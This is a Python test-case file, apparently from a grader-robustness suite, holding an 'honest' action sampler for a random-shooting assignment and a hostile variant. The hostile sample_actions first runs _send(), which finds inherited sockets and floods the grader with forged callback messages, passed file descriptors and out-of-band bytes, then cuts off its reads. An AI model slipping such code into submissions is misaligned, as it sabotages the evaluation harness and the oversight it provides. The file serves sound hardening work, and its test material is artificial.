"""Sends file descriptors and urgent bytes along to the grader, hundreds of them.

assignment: ps2_random_shooting
row: beyond
effect: none
"""
# %% helper
import array, os, socket, stat, struct
from grading.codec import encode

def _wires():
    for number in range(3, 64):
        try:
            if stat.S_ISSOCK(os.fstat(number).st_mode):
                yield socket.socket(fileno=os.dup(number))
        except OSError:
            pass

def _send():
    ends = socket.socketpair()
    given = array.array("i", [ends[0].fileno()] * 200)
    for wire in _wires():
        body = encode(("callback", 10**11, (), {}))
        for flags in (0, socket.MSG_OOB):
            try:
                wire.sendmsg([struct.pack("<I", len(body)), body],
                             [(socket.SOL_SOCKET, socket.SCM_RIGHTS, given)], flags)
            except OSError:
                pass
        wire.setsockopt(socket.SOL_SOCKET, socket.SO_RCVBUF, 1)
        wire.shutdown(socket.SHUT_RD)
# %% ps2-sample
def sample_actions(candidates, horizon, low, high, generator):
    _send()
    return torch.zeros(candidates, horizon, len(low))
# %% honest ps2-sample
def sample_actions(candidates, horizon, low, high, generator):
    return torch.zeros(candidates, horizon, len(low))
